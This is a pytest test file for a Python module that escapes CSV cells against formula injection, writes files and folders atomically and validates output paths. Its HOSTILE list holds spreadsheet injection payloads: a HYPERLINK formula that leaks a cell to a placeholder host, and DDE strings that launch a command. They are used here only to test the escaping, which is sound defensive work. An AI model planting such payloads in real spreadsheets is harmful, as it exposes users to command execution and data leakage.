"""goodcall.writing: outputs checked before the work, written atomically, CSV cells escaped."""

from __future__ import annotations

import io
import os
import stat
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from goodcall.writing import (
    FORMULA_STARTS,
    OutputError,
    atomic_file,
    atomic_folder,
    check_outputs,
    escape_cell,
    escape_cells,
    unescape_cells,
    write_csv,
)

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_csv_round_trip_shows_every_formula_escaped_and_numbers_untouched(
    tmp_path: Path,
) -> None:
    frame = pl.DataFrame(
        {
            "name": [*HOSTILE, "Tremblay", "-12"],
            "amount": [-1.5, -2.0, 3.0, -4.25, 0.0, 1.0, -7.5, 8.0],
            "count": [-1, -2, 3, 4, 5, 6, -7, 8],
        }
    )
    path = tmp_path / "report.csv"
    write_csv(frame, path)
    back = pl.read_csv(path, infer_schema=False)
    assert back["name"].to_list() == ["'" + v for v in HOSTILE] + ["Tremblay", "'-12"]
    assert back["amount"].to_list() == ["-1.5", "-2.0", "3.0", "-4.25", "0.0", "1.0", "-7.5", "8.0"]
    assert back["count"].to_list() == ["-1", "-2", "3", "4", "5", "6", "-7", "8"]


def test_escaping_leaves_a_frame_without_text_columns_as_it_is() -> None:
    frame = pl.DataFrame({"x": [-1, 2], "when": [None, None]}, schema={"x": pl.Int64,
                                                                      "when": pl.Date})  # fmt: skip
    assert escape_cells(frame).equals(frame)


@settings(deadline=None)  # a shared machine: no timing in unit tests
@given(st.text(max_size=30))
def test_an_escaped_cell_never_starts_a_formula_and_loses_nothing(value: str) -> None:
    escaped = escape_cell(value)
    assert not escaped.startswith(FORMULA_STARTS)
    assert escaped == ("'" + value if value.lstrip("'").startswith(FORMULA_STARTS) else value)
    frame = escape_cells(pl.DataFrame({"v": [value]}))
    assert frame["v"].to_list() == [escaped]  # the vectorised rule is the same rule


def test_a_stream_is_written_escaped_too() -> None:
    handle = io.BytesIO()
    write_csv(pl.DataFrame({"v": ["=1"]}), handle, include_header=False)
    assert handle.getvalue() == b"'=1\n"


def test_an_atomic_file_keeps_the_old_content_when_writing_fails(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    path.write_text("old")
    with pytest.raises(RuntimeError), atomic_file(path) as handle:
        handle.write(b"half of the new")
        raise RuntimeError("killed")
    assert path.read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]


def test_an_atomic_file_respects_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        with atomic_file(tmp_path / "a.csv") as handle:
            handle.write(b"x")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o640


def test_overwriting_a_folder_keeps_the_old_one_until_the_new_one_is_complete(
    tmp_path: Path,
) -> None:
    target = tmp_path / "campaign"
    target.mkdir()
    (target / "old.txt").write_text("old")
    with pytest.raises(RuntimeError), atomic_folder(target) as staged:
        (staged / "new.txt").write_text("half")
        assert (target / "old.txt").read_text() == "old"
        raise RuntimeError("killed")
    assert [p.name for p in tmp_path.iterdir()] == ["campaign"]
    assert [p.name for p in target.iterdir()] == ["old.txt"]
    old = os.umask(0o027)
    try:
        with atomic_folder(target) as staged:
            (staged / "new.txt").write_text("new")
    finally:
        os.umask(old)
    assert [p.name for p in tmp_path.iterdir()] == ["campaign"]
    assert [p.name for p in target.iterdir()] == ["new.txt"]
    assert stat.S_IMODE(target.stat().st_mode) == 0o750


def test_an_output_that_is_or_is_inside_an_input_is_refused(tmp_path: Path) -> None:
    data = tmp_path / "import"
    data.mkdir()
    (data / "lines.csv").write_text("x")
    for path in (data / "lines.csv", data / "quarantine.csv", data, tmp_path):
        with pytest.raises(OutputError, match="would overwrite the input"):
            check_outputs({"--quarantine": path}, [data])
    link = tmp_path / "link.csv"
    os.link(data / "lines.csv", link)
    with pytest.raises(OutputError, match="would overwrite the input"):
        check_outputs({"--report": link}, [data / "lines.csv"])
    check_outputs({"--report": tmp_path / "report.csv"}, [data, None])


def test_two_outputs_on_one_path_are_refused(tmp_path: Path) -> None:
    same = tmp_path / "out.csv"
    with pytest.raises(OutputError, match="is also the path of --report"):
        check_outputs({"--report": same, "--quarantine": same}, [])


def test_an_unwritable_or_wrong_kind_of_output_is_refused(tmp_path: Path) -> None:
    a_file = tmp_path / "file"
    a_file.write_text("x")
    with pytest.raises(OutputError, match=r"--out .*file is a file; a folder is expected"):
        check_outputs({"--out": a_file}, [], folders=["--out"])
    with pytest.raises(OutputError, match=r"--report .* is a folder; a file name is expected"):
        check_outputs({"--report": tmp_path}, [])
    with pytest.raises(OutputError, match=r"--report /proc/x.csv: cannot write in /proc"):
        check_outputs({"--report": Path("/proc/x.csv")}, [])
    with pytest.raises(OutputError, match=r"cannot write in .*file"):
        check_outputs({"--report": a_file / "x.csv"}, [])


@settings(deadline=None)  # a shared machine: no timing in unit tests
@given(st.lists(st.text(alphabet="'=+-@\t\rab", max_size=6) | st.text(max_size=12), max_size=5))
def test_reading_an_escaped_csv_back_gives_the_values(values: list[str]) -> None:
    assert unescape_cells(escape_cells(pl.DataFrame({"v": ["'=x", "''+y", "'a"]})))[
        "v"
    ].to_list() == ["'=x", "''+y", "'a"]
    frame = pl.DataFrame({"v": values}, schema={"v": pl.String})
    assert unescape_cells(escape_cells(frame)).equals(frame)


def test_what_a_killed_run_left_is_removed_by_the_next_one(tmp_path: Path) -> None:
    dead = 4_194_304 + 1  # above Linux's largest pid: no such process
    stale_file = tmp_path / f".report.csv.{dead}.abcd_123.tmp"
    stale_folder = tmp_path / f".campaign.{dead}.k2j4h5g6"
    live = tmp_path / f".campaign.{os.getpid()}.k2j4h5g6"  # this process: still writing
    other = tmp_path / f".campaign.2.{dead}.k2j4h5g6"  # the target campaign.2's, not ours
    stale_file.write_text("rejected rows")
    for folder in (stale_folder, live, other):
        folder.mkdir()
    write_csv(pl.DataFrame({"v": [1]}), tmp_path / "report.csv")
    with atomic_folder(tmp_path / "campaign") as staged:
        (staged / "a").write_text("a")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["report.csv", "campaign", live.name, other.name]
    )
